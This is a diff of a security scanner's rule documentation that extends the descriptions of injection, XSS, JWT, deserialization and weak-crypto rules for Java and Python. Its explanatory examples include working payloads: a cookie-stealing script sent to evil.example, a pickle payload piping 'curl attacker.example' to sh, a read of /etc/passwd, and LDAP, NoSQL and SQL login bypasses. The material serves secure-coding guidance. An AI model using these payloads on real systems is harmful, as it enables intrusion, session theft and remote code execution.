@@ -145,7 +145,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Do not run text as code. To read data, parse it: `JSON.parse`, `ast.literal_eval`. To choose what to do, look the name up in a table of functions. To calculate, use a library made for formulas.\n\nA sandbox inside the language (`vm` in Node.js, `exec` with empty globals in Python) does not protect: there are known ways out.\n\nIn Java, do not evaluate SpEL, OGNL or scripts that contain data. In Ruby, avoid `eval`, `instance_eval` and `send` with data. In PHP, avoid `eval`, `assert` with text, and `call_user_func` with a name from outside.',
   },
   'command-injection': {
-    what: 'Data from outside becomes part of a command line that a shell reads, or it names the program to start. A shell gives many characters a meaning: `;`, `|`, `&`, `$` and line breaks.',
+    what: 'Data from outside becomes part of a command line that a shell reads, or it names the program to start. A shell gives many characters a meaning: `;`, `|`, `&`, `$` and line breaks. In Java, a native library that such data names (`System.load`) counts too: its code runs at once.',
     why: 'Whoever sends the data can run any program on the server, with all rights of yours.\n\nA page pings the host that a visitor names. The visitor sends this:\n\n```text\nexample.org; cat /etc/passwd\n```\n\nThe shell runs `ping example.org`, and then prints the list of users.',
     how: 'Start the program without a shell, and give it each argument on its own: then no character has a special meaning. Check the value too, because an argument that begins with `-` can still be an option; put `--` before it where the program knows that.\n\nOften a library can do it without any program: resize a picture, read an archive, resolve a name.\n\nIn Java, use `ProcessBuilder` with one element for each argument, and no `sh -c`. In Ruby, use `system(\'ping\', host)` with several arguments, never backquotes. In PHP, wrap each argument in `escapeshellarg`.',
   },
@@ -157,7 +157,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
   'cross-site-scripting': {
     what: 'Data from outside becomes part of a page without being escaped. The browser cannot tell which tags you wrote and which came with the data.',
     why: 'Whoever makes a visitor open a link, or writes something that others read, can run a script in their browsers: act in their name, read what they see.\n\nA search page repeats what was searched for. A link contains this:\n\n```text\n<script>fetch(\'https://evil.example/\' + document.cookie)</script>\n```\n\nThe browser of everyone who opens the link runs it.',
-    how: 'Let a template put the data in, one that escapes: `<`, `>`, `&` and quotes become harmless. Do not switch the escaping off for data. If you build a page by hand, escape each value.\n\nEscaping for HTML does not help inside a script, in a style, or in an address that begins with `javascript:`. Give data to scripts as JSON in an attribute. For text that may contain some tags, use a sanitizer such as DOMPurify.\n\nIn Java, use Thymeleaf’s `th:text` (not `th:utext`), JSTL’s `c:out`, or the OWASP Java Encoder. In Ruby on Rails, do not call `html_safe` or `raw` on data. In PHP, use `htmlspecialchars`; in Blade `{{ }}` and not `{!! !!}`.\n\nTags belong into the template, too. A text with tags around data that goes to a template is shown as plain text there; whoever then marks it as safe lets every script in it through.',
+    how: 'Let a template put the data in, one that escapes: `<`, `>`, `&` and quotes become harmless. Do not switch the escaping off for data. If you build a page or a mail by hand, escape each value.\n\nEscaping for HTML does not help inside a script, in a style, or in an address that begins with `javascript:`. Give data to scripts as JSON in an attribute. For text that may contain some tags, use a sanitizer such as DOMPurify.\n\nIn Java, use Thymeleaf’s `th:text` (not `th:utext`), JSTL’s `c:out`, or the OWASP Java Encoder. In Ruby on Rails, do not call `html_safe` or `raw` on data. In PHP, use `htmlspecialchars`; in Blade `{{ }}` and not `{!! !!}`.\n\nTags belong into the template, too. A text with tags around data that goes to a template is shown as plain text there; whoever then marks it as safe lets every script in it through.',
   },
   'csrf-disabled': {
     what: 'The framework\'s protection against cross-site request forgery (CSRF) is turned off, for a view or for everything. Or a check says that a request is forged, and the program does not look at what it says.',
@@ -195,7 +195,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Read secrets from the environment or from a secret store, in every language. Then replace the secret: the old one is no longer secret.',
   },
   'header-injection': {
-    what: 'Data from outside becomes the name of a response header, or it goes into a header in a server that lets line breaks through. A line break ends a header.',
+    what: 'Data from outside becomes the name of a response header, or it goes into a header in a server that lets line breaks through. A line break ends a header. The value of a cookie is a part of a header too.',
     why: 'Whoever makes a visitor open a link with such data can set cookies in the visitor’s browser, or switch off protections.\n\nThe request names the header. A link contains this:\n\n```text\n?name=Set-Cookie&value=session=known\n```\n\nThe visitor’s browser now has a session that the attacker knows.',
     how: 'Write the names of headers yourself. Remove line breaks from values, or encode them: `encodeURIComponent`, `quote`.\n\nNode.js, Django, Flask, Starlette and PHP refuse a value with a line break, so there the request fails. In Java and Ruby it depends on the server: check the value yourself.',
   },
@@ -220,12 +220,12 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Give tokens a short life, such as 15 minutes, and a second, longer one to renew them that your server can refuse. In Java call `expiration(…)` (JJWT) or `withExpiresAt(…)`, in Ruby and PHP put `exp` into the payload.',
   },
   'jwt-unverified': {
-    what: 'A JSON Web Token is read without checking its signature, or the algorithm `none` is allowed, which means no signature.',
+    what: 'A JSON Web Token is read without checking its signature, or the algorithm `none` is allowed, which means no signature. A token that is issued without a signature is the other side of it.',
     why: 'The signature is all that ties a token to your server. The rest is text that anyone can write:\n\n```text\n{"alg":"none"}\n{"sub":"admin","role":"owner"}\n```',
     how: 'Verify the token with your key before you believe a word of it, and name the algorithm that you sign with. In Java call `parseSignedClaims` (JJWT) or `JWT.require(…).build().verify(…)`, in Ruby `JWT.decode(token, key, true, algorithm: \'HS256\')`, in PHP `JWT::decode($token, new Key($key, \'HS256\'))`.',
   },
   'ldap-injection': {
-    what: 'Data from outside becomes part of the filter, or of the name, of an LDAP search. Parentheses, `*`, `|` and `&` have a meaning there.',
+    what: 'Data from outside becomes part of the filter, or of the name, of an LDAP search. Parentheses, `*`, `|` and `&` have a meaning there.\n\nIn Java, a search can also give entries back as objects (`SearchControls` with `returningObjFlag`). Then the one who wrote an entry chooses a class that your program loads.',
     why: 'Whoever sends the data can change what is searched: log in as someone else, or list all people of a directory.\n\nA login searches for the name and the password. A visitor sends this name:\n\n```text\nadmin)(|(uid=*\n```\n\nThe filter now holds for every entry, whatever the password is.',
     how: 'Escape each value with the function that your LDAP library has for filters; names (DNs) need another one than filters. Better still, check a login by binding with the name and the password, not by searching for a password.\n\nIn Java, use `LdapEncoder.filterEncode` of Spring LDAP, or the search with arguments (`{0}`) of JNDI. In Ruby, use `Net::LDAP::Filter.eq`, which escapes. In PHP, use `ldap_escape` with `LDAP_ESCAPE_FILTER`.',
   },
@@ -260,7 +260,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Add a `WHERE` clause that names the rows. Try it as a `SELECT` first and look at what comes back. If you mean every row, say so: suppress the finding with that reason, or use `TRUNCATE` to empty a table.',
   },
   'nosql-injection': {
-    what: 'A query of MongoDB is an object, and data from the request becomes a part of it. JSON bodies and many query strings can carry objects, so where you expect text, a visitor can send operators.',
+    what: 'A query of MongoDB is an object, and data from the request becomes a part of it. JSON bodies and many query strings can carry objects, so where you expect text, a visitor can send operators. The same happens where the text of a query is put together, as for `Document.parse` in Java.',
     why: 'Whoever sends the data can change what the query matches, for example so that every password is right.\n\nA login looks a user up by name and password. A visitor sends this as the body:\n\n```text\n{"name": "admin", "password": {"$ne": null}}\n```\n\nThe query asks for a user named admin whose password is *not equal to nothing*, and it finds one. With `$where`, the data even runs as JavaScript in the database.',
     how: 'Make sure that each value is text or a number before it goes into a query: convert it, or check the request against a schema. Name the fields of a query yourself, and never pass a whole body on as a query. Do not use `$where`.\n\nWrapping a value as `{ $eq: value }` works as well: then it is only compared.\n\nIn PHP, `$_GET[\'name\']` can be an array when the address says `name[$ne]=`; cast it with `(string)`. In Ruby on Rails, `params[:name]` can be a hash; call `to_s` on it. In Java, build the filter from a `String`, not from parsed JSON.',
   },
@@ -315,7 +315,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Give secrets to the container when it starts: from the environment of the platform, or from a secret store. For a secret that only the build needs, use `RUN --mount=type=secret`, which leaves nothing behind. List `.env` and keys in `.dockerignore`. A secret that was in an image is known: change it.',
   },
   'secret-in-log': {
-    what: 'A password, a key or a token is written to a log or to the console.',
+    what: 'A password, a key or a token is written to a log or to the console.\n\nIn Python, an entry that says itself that a secret follows (`\'password: %s\'`) is pointed out too, whatever the variable is called.',
     why: 'Logs live long. They are copied to other machines, kept in backups, and read by people and programs that have no business with passwords. One line is enough:\n\n```text\nlogin failed: ada@example.com correct-horse\n```',
     how: 'Log what happened and to whom, but not the secret. Where you have to tell two keys apart, log the last four characters. Many loggers can leave out fields by name, in every language: `redact` of pino, a filter for Python\'s `logging`, `filter_parameters` in Rails.',
   },
@@ -330,7 +330,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Write the host yourself, or choose it from a list, and let the data be only a part of the path or of the query. If visitors may name any site, resolve the name, refuse addresses of your own network, and do not follow redirects without the same check. Let such requests go through a proxy that can reach the outside only.\n\nThis holds for every language and every HTTP library.',
   },
   'session-fixation': {
-    what: 'A visitor logs in, and the session keeps the id that it had before. Worse is a program that takes the id from the request: `session_id($_GET[\'sid\'])`.',
+    what: 'A visitor logs in, and the session keeps the id that it had before. Worse is a program that takes the id from the request: `session_id($_GET[\'sid\'])`. In Spring Security, `sessionFixation().none()` switches the new id off.',
     why: 'An attacker who can choose the id needs no password:\n\n```text\n1. The attacker gets a session id and plants it in the victim\'s browser.\n2. The victim logs in. The same id now belongs to a logged-in session, and the attacker knows it.\n```',
     how: 'Make a new session id at every login, before you store who it is. In Java call `request.changeSessionId()`, in Rails `reset_session`, in PHP `session_regenerate_id(true)`. Django\'s `login` and Spring Security do it for you.',
   },
@@ -340,7 +340,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Take RSA with 3072 bits (2048 is the least), or the curve P-256, or Ed25519. In Java pass 3072 to `KeyPairGenerator.initialize`, in Ruby to `OpenSSL::PKey::RSA.new`, in PHP set `private_key_bits`.',
   },
   'sql-injection': {
-    what: 'A value from outside, such as a query parameter or a form field, is glued into the text of an SQL statement. The database cannot tell which part of the text you wrote and which part came from the visitor.',
+    what: 'A value from outside, such as a query parameter or a form field, is glued into the text of an SQL statement. The database cannot tell which part of the text you wrote and which part came from the visitor.\n\nA statement with data of the request in it is reported where it is built, if it goes on to a function that the analysis does not know.',
     why: 'Whoever sends the value can change the statement: read other people’s rows, change or delete them.\n\nSuppose the page looks a user up by name. A visitor sends this instead of a name:\n\n```text\nx\' OR \'1\'=\'1\n```\n\nThe statement becomes `SELECT * FROM users WHERE name = \'x\' OR \'1\'=\'1\'`, and it returns every user. With other text the visitor can change or delete rows, or read other tables. Escaping quotes by hand does not help for numbers, and it is forgotten sooner or later.',
     how: 'Write a placeholder where the value belongs, and hand the value to the driver apart from the text. The database then treats it as data, whatever it contains. Each driver has its own placeholder.\n\nA placeholder stands for a value only. For the name of a table or column, or for `ASC` and `DESC`, pick one from a fixed list in your code.',
   },
@@ -380,7 +380,7 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Make up the name yourself, and take the ending from a list of those that you allow. Check the content as well, limit the size, and store uploads in a folder from which nothing is run. Best serve them from another domain.\n\nIn Java, do not use `getOriginalFilename` as the name. In Ruby on Rails, Active Storage makes up the names. In PHP, do not use `$_FILES[\'file\'][\'name\']` as the name.',
   },
   'unsafe-deserialization': {
-    what: 'Bytes or text from outside are turned into objects with a format that can hold objects of any class, such as Python\'s pickle, Java\'s serialization or PHP\'s `serialize`.',
+    what: 'Bytes or text from outside are turned into objects with a format that can hold objects of any class, such as Python\'s pickle, Java\'s serialization or PHP\'s `serialize`. Settings count too that let JSON or XML name the class, such as the default typing of Jackson.',
     why: 'Such a format says which classes to make and how. The sender can choose classes that run a command while they are made. For pickle this is enough:\n\n```text\ncos\nsystem\n(S\'curl attacker.example | sh\'\ntR.\n```',
     how: 'Use a format that holds only data, such as JSON, and check what comes out. For YAML use the safe loader. In Java read JSON into a class of your own, without polymorphic types; in Ruby take `JSON.parse` and `YAML.safe_load` in place of `Marshal.load`; in PHP take `json_decode` in place of `unserialize`.',
   },
@@ -395,17 +395,17 @@ export const ruleDocs: Readonly<Record<string, { what: string; why: string; how:
     how: 'Say what you expect, and answer 400 to the rest: type, length, range, form. A library makes that short: zod, Joi or class-validator in JavaScript, pydantic or marshmallow in Python, Bean Validation in Java, model validations in Rails, form requests in Laravel.',
   },
   'weak-cipher': {
-    what: 'Data is encrypted with an old cipher (DES, Triple DES, RC4, Blowfish), in the mode ECB, or with an initialisation vector that is always the same.',
+    what: 'Data is encrypted with an old cipher (DES, Triple DES, RC4, Blowfish), in the mode ECB, or with an initialisation vector that is always the same. In Java, RSA without padding, or with the old one, is named too. In Python, modes that do not notice changes (CBC, CTR) are pointed out where nothing signs the result.',
     why: 'Old ciphers have short keys or short blocks and can be broken. ECB encrypts equal blocks to equal blocks, so patterns stay visible:\n\n```text\nbalance=100 balance=100   →   8f3a… 8f3a…\n```\n\nA fixed vector does the same for whole messages.',
     how: 'Use AES-256 in the mode GCM, with a new random vector for each message. GCM also notices when the text was changed. In Java write `Cipher.getInstance("AES/GCM/NoPadding")`, in Ruby `OpenSSL::Cipher.new(\'aes-256-gcm\')`, in PHP `openssl_encrypt` with `aes-256-gcm` or the functions of sodium.',
   },
   'weak-hash': {
-    what: 'MD5, SHA-1 or an older hash function is used where somebody could gain by fooling it.',
+    what: 'MD5, SHA-1 or an older hash function is used where somebody could gain by fooling it. In Java, a class that is a `MessageDigest` of its own is pointed out as well: hardly anyone has tried to break it.',
     why: 'A hash stands for the data that it was made from. For MD5 and SHA-1 two different inputs with one hash can be made, so it stands for both:\n\n```text\ncontract-1000-euro.pdf   a5b1…\ncontract-9000-euro.pdf   a5b1…\n```\n\nAs a checksum against accidents, for a cache or an ETag, they still do.',
     how: 'Use SHA-256 or a newer function. Where a signature is meant, use an HMAC with a key. For passwords use bcrypt, scrypt or Argon2. In Java write `MessageDigest.getInstance("SHA-256")`, in Ruby `Digest::SHA256`, in PHP `hash(\'sha256\', …)`.',
   },
   'weak-password-hash': {
-    what: 'A password is hashed with a function such as MD5, SHA-1 or SHA-256, which is made to be fast.',
+    what: 'A password is hashed with a function such as MD5, SHA-1 or SHA-256, which is made to be fast. In Java, encoders of Spring Security that do this, or that change nothing, are reported where they are made.',
     why: 'A stolen database is attacked offline: the attacker hashes one guess after the other and compares. A fast hash makes that cheap. One graphics card tries this many passwords a second against MD5:\n\n```text\n100,000,000,000\n```\n\nWithout a salt it is worse. Equal passwords have equal hashes, and lists of hashes of common passwords are on the web.',
     how: 'Use a hash made for passwords: bcrypt, scrypt or Argon2. They are slow on purpose, and they mix in a random salt. At login let the library compare. In Java take Spring Security\'s `BCryptPasswordEncoder`, in Rails `has_secure_password`, in PHP `password_hash` and `password_verify`.',
   },
